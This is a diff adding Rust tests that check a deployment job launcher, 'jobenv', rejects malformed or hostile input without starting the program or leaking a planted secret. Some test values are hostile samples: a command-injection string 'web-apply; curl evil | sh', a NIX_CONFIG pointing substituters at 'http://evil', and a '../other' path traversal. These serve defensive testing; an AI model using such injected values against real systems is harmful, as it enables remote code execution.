@@ -1,0 +1,279 @@
+//! Bad input is refused before anything runs: exit 2, the program never starts, one line per
+//! problem naming it, and never a secret value. Every test plants a secret in the node's
+//! secrets directory and checks that no output holds it; `the_planted_secret_is_really_loaded`
+//! is the positive control that this secret is read and would be seen if it leaked.
+
+use std::path::PathBuf;
+use std::process::Output;
+
+use fediversity_testkit::jobenv_bin;
+use fediversity_testkit::nix_fixture::{Fixture, run_with_payload, run_with_stdin};
+use serde_json::{Value, json};
+
+const SECRET: &str = "planted-secret-Zq8w1x";
+
+struct Case {
+    f: Fixture,
+    started: PathBuf,
+}
+
+impl Case {
+    fn new() -> Self {
+        let mut f = Fixture::new();
+        let started = f.path().join("started");
+        f.program("web", "apply", &format!("echo \"$API_TOKEN\" > {}", started.display()));
+        f.declare("API_TOKEN", None).declare("DOMAIN", None).secret("API_TOKEN", SECRET);
+        Case { f, started }
+    }
+
+    fn payload() -> Value {
+        json!({"ATTRIBUTE": "web", "NAMESPACE": "ns"})
+    }
+
+    fn run(&self, payload: &Value) -> Output {
+        self.f.run(jobenv_bin!(), &["run", "--verb", "apply"], payload)
+    }
+
+    /// Asserts the rejection contract and returns stderr.
+    fn rejected(&self, out: Output, expected: &str) -> String {
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+        assert_eq!(out.status.code(), Some(2), "stderr: {stderr}");
+        assert!(!self.started.exists(), "the program was started");
+        assert!(stderr.contains(expected), "expected {expected:?} in:\n{stderr}");
+        assert!(stderr.lines().all(|l| l.starts_with("jobenv: ")), "unprefixed line in:\n{stderr}");
+        assert!(!stderr.contains(SECRET) && !stdout.contains(SECRET), "the secret leaked:\n{stderr}\n{stdout}");
+        stderr
+    }
+}
+
+#[test]
+fn the_planted_secret_is_really_loaded() {
+    let case = Case::new();
+    let out = case.run(&Case::payload());
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(std::fs::read_to_string(&case.started).unwrap(), format!("{SECRET}\n"));
+}
+
+#[test]
+fn deploy_env_missing() {
+    let case = Case::new();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_DEPLOY_ENV", "/nonexistent/deploy-env.json");
+    let out = run_with_payload(command, &Case::payload());
+    case.rejected(out, "deploy-env file /nonexistent/deploy-env.json does not exist");
+}
+
+#[test]
+fn deploy_env_unreadable() {
+    let case = Case::new();
+    // Tests run as root, which reads any mode: a directory is what cannot be read as a file.
+    let dir = case.f.path().join("a-directory");
+    std::fs::create_dir(&dir).unwrap();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_DEPLOY_ENV", &dir);
+    let out = run_with_payload(command, &Case::payload());
+    case.rejected(out, &format!("deploy-env file {} cannot be read", dir.display()));
+}
+
+fn with_deploy_env_text(text: &str) -> (Case, Output) {
+    let case = Case::new();
+    let path = case.f.path().join("other-deploy-env.json");
+    std::fs::write(&path, text).unwrap();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_DEPLOY_ENV", &path);
+    let out = run_with_payload(command, &Case::payload());
+    (case, out)
+}
+
+#[test]
+fn deploy_env_not_json() {
+    let (case, out) = with_deploy_env_text("{\"DEPLOYMENT_ROOT\": ");
+    case.rejected(out, "other-deploy-env.json is not valid JSON: EOF while parsing");
+}
+
+#[test]
+fn deploy_env_not_an_object() {
+    let (case, out) = with_deploy_env_text("[\"DEPLOYMENT_ROOT\"]");
+    case.rejected(out, "other-deploy-env.json must be a JSON object");
+}
+
+#[test]
+fn deploy_env_with_an_undeclared_key() {
+    let mut case = Case::new();
+    case.f.node("SURPRISE", "value").node("TF_VAR_region", "eu").node("NIX_CONFIG", "x");
+    let out = case.run(&Case::payload());
+    let stderr = case.rejected(out, "sets SURPRISE, which is neither declared in the keys file nor a Nix/OpenTofu variable a node may set");
+    assert_eq!(stderr.lines().count(), 1, "TF_VAR_* and NIX_CONFIG are allowed: {stderr}");
+}
+
+#[test]
+fn keys_file_missing() {
+    let case = Case::new();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_KEYS", "/nonexistent/keys.json");
+    case.rejected(run_with_payload(command, &Case::payload()), "keys file /nonexistent/keys.json does not exist");
+}
+
+#[test]
+fn attributes_file_missing() {
+    let case = Case::new();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_ATTRIBUTES", "/nonexistent/attributes.json");
+    case.rejected(run_with_payload(command, &Case::payload()), "attributes file /nonexistent/attributes.json does not exist");
+}
+
+#[test]
+fn missing_secrets_directory() {
+    let case = Case::new();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("JOBENV_SECRETS_DIRS", format!("{}:/nonexistent/secrets", case.f.secrets_dir().display()));
+    case.rejected(run_with_payload(command, &Case::payload()), "secrets directory /nonexistent/secrets does not exist");
+}
+
+#[test]
+fn payload_not_json() {
+    let case = Case::new();
+    let out = run_with_stdin(case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]), b"ATTRIBUTE=web");
+    case.rejected(out, "payload on stdin is not valid JSON: expected value at line 1 column 1");
+}
+
+#[test]
+fn payload_not_an_object() {
+    let case = Case::new();
+    case.rejected(case.run(&json!(["ATTRIBUTE", "web"])), "payload on stdin must be a JSON object");
+}
+
+#[test]
+fn payload_larger_than_one_mebibyte() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN": "x".repeat(1 << 20)});
+    case.rejected(case.run(&payload), "payload is larger than 1048576 bytes");
+}
+
+#[test]
+fn payload_with_undeclared_node_only_and_reserved_keys_lists_them_all() {
+    let case = Case::new();
+    let payload = json!({
+        "ATTRIBUTE": "web", "NAMESPACE": "ns",
+        "NOPE_ONE": "1", "NOPE_TWO": "2",
+        "DEPLOYMENT_ROOT": "/tmp", "NIXPKGS": "/tmp",
+        "PATH": "/tmp", "HOME": "/tmp", "NIX_CONFIG": "x", "LD_PRELOAD": "x", "DYLD_LIBRARY_PATH": "x", "TF_HTTP_LOCK_ADDRESS": "x",
+    });
+    let stderr = case.rejected(case.run(&payload), "payload rejected: undeclared keys: NOPE_ONE, NOPE_TWO");
+    assert!(stderr.contains("payload rejected: keys only the node may set: DEPLOYMENT_ROOT, NIXPKGS"), "{stderr}");
+    assert!(
+        stderr.contains("payload rejected: reserved keys: DYLD_LIBRARY_PATH, HOME, LD_PRELOAD, NIX_CONFIG, PATH, TF_HTTP_LOCK_ADDRESS"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn a_reserved_key_is_refused_even_when_declared() {
+    let mut case = Case::new();
+    case.f.declare("NIX_CONFIG", None);
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "NIX_CONFIG": "substituters = http://evil"});
+    case.rejected(case.run(&payload), "payload rejected: reserved keys: NIX_CONFIG");
+}
+
+#[test]
+fn a_key_with_an_equals_sign() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN=x": "y"});
+    case.rejected(case.run(&payload), "invalid variable name \"DOMAIN=x\" in payload");
+}
+
+#[test]
+fn a_key_with_a_nul_byte() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOM\u{0}AIN": "y"});
+    case.rejected(case.run(&payload), "invalid variable name \"DOM\\0AIN\" in payload");
+}
+
+#[test]
+fn a_payload_value_with_a_nul_byte() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "DOMAIN": "a\u{0}b"});
+    case.rejected(case.run(&payload), "the value of DOMAIN in payload contains a NUL byte");
+}
+
+#[test]
+fn a_secret_value_with_a_nul_byte_is_named_but_not_shown() {
+    let case = Case::new();
+    let path = case.f.secrets_dir().join("DOMAIN");
+    std::fs::write(&path, format!("{SECRET}\0tail")).unwrap();
+    case.rejected(case.run(&Case::payload()), &format!("the value of DOMAIN in {} contains a NUL byte", path.display()));
+}
+
+#[test]
+fn an_unknown_attribute() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "db", "NAMESPACE": "ns"});
+    case.rejected(case.run(&payload), "unknown ATTRIBUTE \"db\": it is not in the published attribute list");
+}
+
+#[test]
+fn an_executable_that_is_not_attribute_dash_verb() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "EXECUTABLE": "web-apply; curl evil | sh"});
+    case.rejected(case.run(&payload), "EXECUTABLE \"web-apply; curl evil | sh\" is not allowed: it must be \"web-apply\"");
+}
+
+#[test]
+fn a_malformed_system() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "ns", "SYSTEM": "x86_64-linux.evil"});
+    case.rejected(case.run(&payload), "SYSTEM \"x86_64-linux.evil\" is invalid: must match ^[a-z0-9_]+-[a-z0-9_]+$");
+}
+
+#[test]
+fn a_malformed_namespace() {
+    let case = Case::new();
+    let payload = json!({"ATTRIBUTE": "web", "NAMESPACE": "../other"});
+    case.rejected(case.run(&payload), "NAMESPACE \"../other\" is invalid: must match ^[a-z0-9][a-z0-9-]{0,62}$");
+}
+
+#[test]
+fn a_key_defined_by_two_node_sources_names_both_but_not_the_value() {
+    let mut case = Case::new();
+    case.f.node("API_TOKEN", SECRET);
+    let out = case.run(&Case::payload());
+    case.rejected(
+        out,
+        &format!(
+            "API_TOKEN is set by two node sources: {} and {}",
+            case.f.deploy_env_path().display(),
+            case.f.secrets_dir().join("API_TOKEN").display()
+        ),
+    );
+}
+
+#[test]
+fn an_unknown_verb() {
+    let case = Case::new();
+    let out = case.f.run(jobenv_bin!(), &["run", "--verb", "deploy"], &Case::payload());
+    case.rejected(out, "unknown verb \"deploy\": expected one of apply, destroy");
+}
+
+#[test]
+fn a_missing_attribute_and_namespace() {
+    let case = Case::new();
+    let stderr = case.rejected(case.run(&json!({})), "ATTRIBUTE is required but not set");
+    assert!(stderr.contains("NAMESPACE is required but not set"), "{stderr}");
+}
+
+#[test]
+fn a_rejected_windmill_job_writes_its_result() {
+    let case = Case::new();
+    let mut command = case.f.command(jobenv_bin!(), &["run", "--verb", "apply"]);
+    command.env("WM_JOB_ID", "0192-rejected");
+    let out = run_with_payload(command, &json!({"ATTRIBUTE": "db", "NAMESPACE": "ns"}));
+    case.rejected(out, "unknown ATTRIBUTE");
+    let result: Value = serde_json::from_slice(&std::fs::read(case.f.job_dir().join("result.json")).unwrap()).unwrap();
+    assert_eq!(result["status"], "rejected");
+    assert_eq!(result["exit_code"], 2);
+    assert_eq!(result["attribute"], "db");
+    assert_eq!(result["namespace"], "ns");
+    assert_eq!(result["job_id"], "0192-rejected");
+    assert_eq!(result["errors"][0], "unknown ATTRIBUTE \"db\": it is not in the published attribute list");
+}
